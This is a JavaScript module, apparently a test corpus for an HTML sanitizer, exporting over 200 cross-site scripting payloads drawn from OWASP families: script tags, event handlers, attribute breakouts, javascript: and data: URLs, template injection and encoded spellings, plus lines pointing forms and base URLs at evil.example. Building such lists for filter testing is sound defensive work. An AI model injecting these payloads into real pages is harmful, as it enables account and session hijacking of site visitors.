// What somebody types who wants a script to run in another reader's browser: 200 of them and more,
// after the families of the OWASP cheat sheet (CC BY-SA 4.0) and the HTML standard: tags, handlers,
// addresses, breaking out of attributes, comments, style and templates, other spellings.

const RUN = 'window.ran=1';

const TAGS = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'iframe', 'marquee', 'select autofocus', 'textarea autofocus', 'keygen autofocus', 'object data=x', 'embed src=x', 'a tabindex=1 autofocus', 'form', 'button autofocus', 'div contenteditable autofocus', 'math', 'style'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onanimationstart', 'onpointerenter'];
const handlers = TAGS.flatMap((tag) => HANDLERS.map((on) => `<${tag} ${on}=${RUN}>`));

const scripts = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\t>${RUN}</script>`, `<script/x>${RUN}</script>`, `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} />`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`, `<math><mtext></p><img src=x onerror=${RUN}>`,
];

const breakers = ['"', "'", '">', "'>", '`>', '" ', "' ", '\\"'].flatMap((out) => [
  `${out}<script>${RUN}</script>`, `${out}autofocus onfocus=${RUN} x=`, `${out}><img src=x onerror=${RUN}>`,
]);

const addresses = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java&#10;script:', '&#106;avascript:', 'data:text/html,', 'vbscript:', ' javascript:'].flatMap(
  (scheme) => [`<a href="${scheme}${RUN}">x</a>`, `<iframe src="${scheme}${RUN}"></iframe>`, `${scheme}${RUN}`],
);

const templates = [
  '{{constructor.constructor("window.ran=1")()}}', '${window.ran=1}', '#{window.ran=1}', '<%= window.ran=1 %>', '[[${window.ran=1}]]',
  '{{7*7}}', '@(window.ran=1)', '*{window.ran=1}', '{$x}', '%7B%7Bwindow.ran=1%7D%7D',
];

const spellings = [
  `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`, `<ſcript>${RUN}</ſcript>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<img src=x onerror=&#119;indow.ran=1>`, `<style>@import'data:,*{x:expression(${RUN})}';</style>`, `<link rel=stylesheet href=data:,x>`,
  `<meta http-equiv=refresh content="0;url=data:text/html,x">`, `<base href=//evil.example/>`, `<form action=//evil.example><input name=key>`,
  `<div style="background:url(//evil.example/x)">`, `<img src=//evil.example/x.png>`,
];

export const PAYLOADS = [...scripts, ...breakers, ...addresses, ...templates, ...spellings, ...handlers];
